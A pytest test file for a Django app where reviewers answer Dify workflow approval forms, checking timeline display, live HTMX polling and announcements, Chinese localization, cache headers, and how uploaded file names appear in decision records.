    Decision.objects.filter(pk=decision.pk).update(
        status=Decision.Status.FAILED, last_error="Dify said <b>no</b> & %(n)s"
    )
    page = body(
        alice.get(f"/forms/{form.public_id}/", HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()
    )
    assert "<p>Dify said &lt;b&gt;no&lt;/b&gt; &amp; %(n)s</p>" in page


def test_a_decision_held_for_its_app_says_so_and_the_page_notices_when_it_goes_on(
    alice: Client, form: Form, reviewer: User
) -> None:
    form.status = Form.Status.SUBMITTING
    form.save()
    decision = Decision.objects.create(
        form=form,
        action_id="approve",
        reviewer=reviewer,
        held_for_app=True,
        last_error="Dify refused the decision (401 unauthorized): Access token is invalid",
    )
    page = alice.get(f"/forms/{form.public_id}/").content.decode()
    assert "Decision kept: Dify refuses this app&#x27;s connection." in page
    assert "Nothing needs to be decided again." in page
    assert "Access token is invalid" in page
    # It may wait for hours: the page asks less often, and redraws once the decision goes on.
    assert 'hx-trigger="every 5s"' in page and "state=in_flight-queued-held" in page
    Decision.objects.filter(pk=decision.pk).update(held_for_app=False)
    live = alice.get(
        f"/forms/{form.public_id}/live",
        {"state": "in_flight-queued-held", "run": "x"},
        HTTP_HX_REQUEST="true",
    ).content.decode()
    assert "Decision queued; it is on its way to Dify." in live
    assert 'hx-trigger="every 1s"' in live
    Decision.objects.filter(pk=decision.pk).update(held_for_app=True)
    page = alice.get(f"/forms/{form.public_id}/", HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()
    assert "Decision kept" not in page and "决定已保留" in page


def test_the_run_panel_s_timeline_is_in_words_and_shows_a_waiting_node_once(
    alice: Client, form: Form
) -> None:
    run = form.run
    run.timeline = [
        {
            "key": "started",
            "event": "workflow_started",
            "status": "running",
            "at": "2026-12-06T02:36:59+00:00",
        },
        {
            "key": "node:1",
            "event": "node",
            "node_id": "start",
            "title": "Start",
            "status": "succeeded",
        },
        # The Human Input node's own entry says "running" until the run resumes.
        {
            "key": "node:2",
            "event": "node",
            "node_id": "approval",
            "title": "Data owner approval",
            "status": "running",
        },
        {
            "key": "form:F1",
            "event": "human_input_required",
            "node_id": "approval",
            "title": "Data owner approval",
            "status": "waiting",
            "form": str(form.public_id),
            "at": "2026-12-06T02:37:00+00:00",
        },
    ]
    run.save()
    page = alice.get(f"/forms/{form.public_id}/").content.decode()
    panel = page[page.index('id="run-panel"') :]
    titles = re.findall(r'<span class="tl-title">([^<]*)</span>', panel)
    assert titles == ["Run started", "Start", "Data owner approval"]
    statuses = re.findall(r'<span class="tl-status">([^<]*)</span>', panel)
    assert statuses == ["Succeeded", "Waiting"]
    assert "workflow_started" not in panel
    chinese = alice.get(
        f"/forms/{form.public_id}/", HTTP_ACCEPT_LANGUAGE="zh-hans"
    ).content.decode()
    assert "运行已启动" in chinese and "Run started" not in chinese
    # Once answered and the node finished, the form's entry tells it: answered, after how long
    # a wait. The pause's own entry (the follower keeps it, saying "paused") would read as a
    # node still paused beside it; the node's own "succeeded", dated when it started, as done
    # before the pause.
    run.timeline[2]["status"] = "succeeded"
    run.timeline[3]["status"] = "paused"
    run.timeline.append(
        {
            "key": "filled:F1:approve",
            "event": "human_input_form_filled",
            "node_id": "approval",
            "title": "Data owner approval",
            "status": "answered",
            "action": "Approve",
            "form": str(form.public_id),
            "at": "2026-12-06T02:42:30+00:00",
        }
    )
    run.timeline.append(
        {"key": "finished", "event": "workflow_finished", "status": "succeeded"},
    )
    run.save()
    for url in (f"/forms/{form.public_id}/", f"/runs/{run.public_id}/"):
        panel = alice.get(url).content.decode()
        panel = panel[panel.index('class="timeline"') :]
        titles = re.findall(r'<span class="tl-title">([^<]*)</span>', panel)
        assert titles == ["Run started", "Start", "Data owner approval", "Run ended"], url
        statuses = re.findall(r'<span class="tl-status">([^<]*)</span>', panel)
        assert statuses[:2] == ["Succeeded", "Answered"] and statuses[-1] == "Succeeded", url
        assert "Paused" not in statuses and 'class="tl-paused"' not in panel, url
        assert '<span class="tl-waited">waited 5 minutes</span>' in panel, url
    chinese = alice.get(f"/forms/{form.public_id}/", HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert "等待了 5 分钟" in chinese.content.decode()
    # A Human Input node that failed says so.
    run.timeline[2]["status"] = "failed"
    run.save()
    panel = alice.get(f"/forms/{form.public_id}/").content.decode()
    panel = panel[panel.index('id="run-panel"') :]
    statuses = re.findall(r'<span class="tl-status">([^<]*)</span>', panel)
    assert statuses == ["Succeeded", "Failed", "Answered", "Succeeded"]


def test_in_chinese_lists_take_the_enumeration_comma_and_labels_no_stray_space(
    alice: Client, form: Form
) -> None:
    alice.cookies["django_language"] = "zh-hans"
    page = alice.get(f"/forms/{form.public_id}/").content.decode()
    assert "可接受：图片（GIF、JPEG、JPG、PNG、SVG、WEBP）、文档（CSV、DOCX" in page  # noqa: RUF001
    assert "：  " not in page and "： " not in page  # noqa: RUF001


def test_in_chinese_the_expiry_date_is_in_full_width_parentheses(
    alice: Client, dify_app: DifyApp
) -> None:
    form = make_form(dify_app, expires_in=dt.timedelta(hours=48))
    alice.cookies["django_language"] = "zh-hans"
    page = alice.get(f"/forms/{form.public_id}/").content.decode()
    assert re.search(r'<span class="abs">（\d{4}年\d+月\d+日 [^）]*）</span>', page)  # noqa: RUF001


def test_a_reviewer_s_pages_are_never_kept_by_the_browser(alice: Client, form: Form) -> None:
    # Back must ask again: a kept page would show a decided form as waiting, its buttons live.
    for path in ("/", f"/forms/{form.public_id}/", "/runs/"):
        assert "no-store" in alice.get(path)["Cache-Control"], path


def announced(response: Any) -> str:
    """What a response has the page's announcer read out ("" for nothing)."""
    import json

    trigger = response.headers.get("HX-Trigger")
    return str(json.loads(trigger)["inbox:announce"]["message"]) if trigger else ""


@pytest.mark.parametrize(
    ("language", "said"),
    [("en", "This form is now: Expired."), ("zh-hans", "此表单当前状态：已过期。")],  # noqa: RUF001
)
def test_a_form_that_expires_while_open_is_announced_as_its_badge_says(
    alice: Client, dify_app: DifyApp, language: str, said: str
) -> None:
    form = make_form(dify_app, expires_in=dt.timedelta(hours=1))
    Form.objects.filter(pk=form.pk).update(expiration_time=timezone.now() - dt.timedelta(seconds=1))
    live = alice.get(
        f"/forms/{form.public_id}/live",
        {"state": "open", "run": "x"},
        HTTP_HX_REQUEST="true",
        HTTP_ACCEPT_LANGUAGE=language,
    )
    assert announced(live) == said
    badge = re.search(r'<span id="form-status"[^>]*>([^<]*)</span>', live.content.decode())
    assert badge is not None and badge.group(1) in said


def test_each_step_of_a_decision_on_its_way_is_announced_as_the_page_words_it(
    alice: Client, form: Form, reviewer: User
) -> None:
    Form.objects.filter(pk=form.pk).update(status=Form.Status.SUBMITTING)
    decision = Decision.objects.create(form=form, action_id="approve", reviewer=reviewer)
    url = f"/forms/{form.public_id}/live"
    queued = alice.get(url, {"state": "open", "run": "x"}, HTTP_HX_REQUEST="true")
    assert announced(queued) == "Decision queued; it is on its way to Dify."
    Decision.objects.filter(pk=decision.pk).update(status=Decision.Status.DELIVERING)
    sending = alice.get(url, {"state": "in_flight-queued", "run": "x"}, HTTP_HX_REQUEST="true")
    assert announced(sending) == "Sending the decision to Dify…"
    assert "Sending the decision to Dify…" in sending.content.decode()
    # Nothing moved: nothing said.
    quiet = alice.get(url, {"state": "in_flight-delivering", "run": "x"}, HTTP_HX_REQUEST="true")
    assert announced(quiet) == ""


def test_a_claim_or_release_by_someone_else_is_announced_once(
    client: Client, form: Form, reviewer: User, other_reviewer: User
) -> None:
    client.force_login(reviewer)
    url = f"/forms/{form.public_id}/live"
    form.claim(other_reviewer)
    taken = client.get(url, {"state": "open", "run": "x", "claim": ""}, HTTP_HX_REQUEST="true")
    assert announced(taken) == "Taken by Bob"
    # The panel redrawn carries who has the form, which the next poll sends: nothing more said.
    key = f'<input type="hidden" name="claim" value="{other_reviewer.pk}">'
    assert key in taken.content.decode()
    again = client.get(
        url, {"state": "open", "run": "x", "claim": str(other_reviewer.pk)}, HTTP_HX_REQUEST="true"
    )
    assert announced(again) == "" and 'id="claim"' not in again.content.decode()
    form.release(other_reviewer)
    free = client.get(
        url,
        {"state": "open", "run": "x", "claim": str(other_reviewer.pk)},
        HTTP_HX_REQUEST="true",
        HTTP_ACCEPT_LANGUAGE="zh-hans",
    )
    assert announced(free) == "现在没有人处理此表单，您可以接手。"  # noqa: RUF001
    # The reviewer's own claim is said by its own answer, and its panel tells the poll.
    mine = client.post(f"/forms/{form.public_id}/claim", HTTP_HX_REQUEST="true")
    assert f'name="claim" value="{reviewer.pk}"' in mine.content.decode()
    page = client.get(f"/forms/{form.public_id}/").content.decode()
    assert 'hx-include="#claim input[name=claim]"' in page and "claim=" not in page


def test_the_presence_line_is_a_lasting_live_region_redrawn_only_when_the_people_change(
    client: Client, form: Form, reviewer: User, other_reviewer: User
) -> None:
    client.force_login(reviewer)
    page = client.get(f"/forms/{form.public_id}/").content.decode()
    # Nobody else: the region is there, empty, outside the part the poll replaces.
    assert re.search(r'<div id="presence" class="presence-region" role="status">\s*</div>', page)
    live = re.search(r'<div id="live"[^>]*></div>', page)
    assert live is not None and "&amp;seen=&amp;app=" in live.group(0)  # nobody seen
    client.force_login(other_reviewer)
    client.get(f"/forms/{form.public_id}/")
    client.force_login(reviewer)
    url = f"/forms/{form.public_id}/live"
    joined = client.get(url, {"state": "open", "run": "x", "seen": ""}, HTTP_HX_REQUEST="true")
    text = joined.content.decode()
    assert (
        '<div id="presence" class="presence-region" role="status" hx-swap-oob="innerHTML">' in text
    )
    assert "Bob is reviewing this too." in text
    seen = re.search(r"seen=([0-9a-f]+)", text)
    assert seen is not None
    # The same people at the next poll: the line is left as it is.
    same = client.get(
        url, {"state": "open", "run": "x", "seen": seen.group(1)}, HTTP_HX_REQUEST="true"
    ).content.decode()
    assert 'id="presence"' not in same


def test_the_record_names_the_files_whether_or_not_dify_s_fill_event_was_seen(
    alice: Client, dify_app: DifyApp, reviewer: User
) -> None:
    """Dify's rendered content writes files as "[file]" and "[N files]": a decision made and
    delivered here reads with the names the files were uploaded under, as it does when the
    fill event was missed; an answer given elsewhere reads Dify's placeholders in the page's
    language."""
    content = (
        "Refund for **Ada**\n\n{{#$output.note#}}\n\nOutcome: {{#$output.decision#}}\n\n"
        "Receipt: {{#$output.receipt#}}\n\nEvidence: {{#$output.evidence#}}\n"
    )
    rendered = (
        "Refund for **Ada**\n\nPaid back [file] today.\n\nOutcome: partial\n\n"
        "Receipt: [file]\n\nEvidence: [2 files]\n"
    )
    form = make_form(
        dify_app,
        status=Form.Status.SUBMITTED,
        filled_action_id="approve",
        filled_action_text="Approve",
        content=content,
        definition=full_definition(form_content=content),
        rendered_content=rendered,
    )
    for file_id, name in (("f-receipt", "receipt-104233.pdf"), ("f-photo", "photo-1.png")):
        Upload.objects.create(
            form=form, input_name="x", upload_file_id=file_id, name=name, size=1, category="image"
        )
    Decision.objects.create(
        form=form,
        action_id="approve",
        reviewer=reviewer,
        status=Decision.Status.DELIVERED,
        inputs={
            "note": "Paid back [file] today.",
            "decision": "partial",
            "receipt": {"transfer_method": "local_file", "upload_file_id": "f-receipt"},
            "evidence": [
                {"transfer_method": "local_file", "upload_file_id": "f-photo"},
                {"transfer_method": "remote_url", "url": "https://files.example.com/a.png"},
            ],
        },
    )
    page = body(alice.get(f"/forms/{form.public_id}/").content.decode())
    assert "Receipt: receipt-104233.pdf" in page
    assert "Evidence: photo-1.png, " in page and "https://files.example.com/a.png" in page
    # The rest as Dify wrote it: a reviewer's own "[file]" in a text stays as typed.
    assert "Paid back [file] today." in page and "Outcome: partial" in page
    assert "[2 files]" not in page

    elsewhere = make_form(
        dify_app,
        status=Form.Status.ANSWERED_ELSEWHERE,
        filled_action_id="approve",
        filled_action_text="Approve",
        content=content,
        definition=full_definition(form_content=content),
        rendered_content=rendered,
    )
    english = body(alice.get(f"/forms/{elsewhere.public_id}/").content.decode())
    assert "Receipt: [file]" in english and "Evidence: [2 files]" in english
    alice.cookies["django_language"] = "zh-hans"
    chinese = body(alice.get(f"/forms/{elsewhere.public_id}/").content.decode())
    assert "Receipt: [\u6587\u4ef6]" in chinese
    assert "Evidence: [2 \u4e2a\u6587\u4ef6]" in chinese
    assert "Paid back [file] today." in chinese  # typed by whoever answered, not Dify's


def test_a_list_of_choices_that_came_without_options_says_to_type_the_value(
    alice: Client, dify_app: DifyApp
) -> None:
    definition = full_definition()
    definition["inputs"] = [
        {
            "type": "select",
            "output_variable_name": "team",
            "option_source": {"type": "variable", "selector": ["sys", "teams"], "value": []},
        }
    ]
    definition["form_content"] = "Which team? {{#$output.team#}}"
    form = make_form(dify_app, definition=definition)
    page = body(alice.get(f"/forms/{form.public_id}/").content.decode())
    assert 'type="text" id="id_in_team"' in page and 'aria-describedby="hint-team"' in page
    assert "This list of choices came without its options: type the value." in page
    refused = body(
        alice.post(f"/forms/{form.public_id}/decide", {"action": "approve"}).content.decode()
    )
    assert "<li>Team: Type a value.</li>" in refused and "Choose an option" not in refused
    assert 'aria-describedby="hint-team err-team"' in refused


def test_a_closed_form_s_body_carries_what_replaces_an_alert_about_a_post(
    alice: Client, dify_app: DifyApp, other_reviewer: User
) -> None:
    """`data-settled`: what the page's script says in place of an alert about something sent
    (a 500 saying to try again, a resend waiting) once the poll shows the form no longer open:
    decided, by whom and with what, else the form's status. None while the form is open."""
    form = make_form(dify_app)
    assert "data-settled" not in body(alice.get(f"/forms/{form.public_id}/").content.decode())
    Decision.objects.create(form=form, action_id="reject", reviewer=other_reviewer)
    Form.objects.filter(pk=form.pk).update(status=Form.Status.SUBMITTING)
    for language, words in (
        ("en", "This form has been decided: Bob chose \u201cReject\u201d."),
        ("zh-hans", "此表单已有决定：Bob 选择了\u201cReject\u201d。无需再发送任何内容。"),  # noqa: RUF001
    ):
        page = body(
            alice.get(f"/forms/{form.public_id}/", HTTP_ACCEPT_LANGUAGE=language).content.decode()
        )
        assert f'data-settled="{words}' in page
    # The poll's redraw carries it too.
    live = alice.get(f"/forms/{form.public_id}/live?state=open&run=").content.decode()
    assert "data-settled=" in live and "Bob chose" in live
    expired = make_form(dify_app, expires_in=-dt.timedelta(minutes=5))
    page = body(alice.get(f"/forms/{expired.public_id}/").content.decode())
    assert 'data-settled="This form is now: Expired. Nothing can be sent for it any more."' in page
